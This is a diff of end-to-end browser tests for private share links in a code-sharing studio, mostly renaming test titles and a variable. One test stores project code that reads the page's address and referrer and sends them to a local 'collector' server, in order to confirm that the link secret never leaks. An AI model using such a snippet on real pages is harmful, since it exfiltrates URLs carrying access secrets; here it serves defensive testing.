@@ -73,7 +73,7 @@ test('H85 a private project opens by a link to a friend without an account, and 
   await site.close();
 });
 
-test('whoever is signed in forks what a link opens, on a narrow screen and by keyboard', async ({
+test('a signed-in user forks a project opened by a link, on a narrow screen and by keyboard', async ({
   studio,
   account,
   open,
@@ -98,7 +98,7 @@ test('whoever is signed in forks what a link opens, on a narrow screen and by ke
   await expect(page.getByRole('button', { name: 'Private', exact: true })).toBeVisible();
 });
 
-test('H85 what a link has opened leaves the page and the embeds when the link expires, without a further look', async ({
+test('H85 a project opened by a link leaves the page and the embeds when the link expires, without another request', async ({
   studio,
   account,
   visit,
@@ -134,16 +134,16 @@ test('H85 what a link has opened leaves the page and the embeds when the link ex
   await site.close();
 });
 
-test('H85 code in an embed by link is told no address that opens the project, and comes back when it is loaded again', async ({
+test('H85 code in an embed by link cannot read an address that opens the project, and runs again after a reload', async ({
   studio,
   account,
   visit,
 }) => {
-  const told = await serveForeignSite('');
+  const collector = await serveForeignSite('');
   const { id } = await storeProject(studio, account, {
     html: '<meta name="referrer" content="unsafe-url"><h1>for friends</h1><button onclick="location.reload()">Again</button>',
     js: `const { href } = location;
-      fetch('${told.url}?' + encodeURIComponent([href, document.URL, document.baseURI, document.referrer]), { mode: 'no-cors' });
+      fetch('${collector.url}?' + encodeURIComponent([href, document.URL, document.baseURI, document.referrer]), { mode: 'no-cors' });
       document.querySelector('h1').id = 'at' + performance.timeOrigin;`,
   });
   const { secret } = await callApi(studio.url, linkRoutes.createLink, {
@@ -158,7 +158,8 @@ test('H85 code in an embed by link is told no address that opens the project, an
   const blog = await visit('about:blank');
   const sent: string[] = [];
   blog.on('request', (request) => {
-    if (request.url().startsWith(told.url)) sent.push(`${request.url()} ${request.headers()['referer']}`);
+    if (request.url().startsWith(collector.url))
+      sent.push(`${request.url()} ${request.headers()['referer']}`);
   });
   await blog.goto(site.url);
   await expect.poll(() => sent.length).toBe(2);
@@ -171,7 +172,7 @@ test('H85 code in an embed by link is told no address that opens the project, an
     expect(request).not.toContain(secret);
     expect(decodeURIComponent(request)).not.toContain('link=');
   }
-  await Promise.all([site.close(), told.close()]);
+  await Promise.all([site.close(), collector.close()]);
 });
 
 test('the dialog of links stands in every look, whatever the names are', async ({
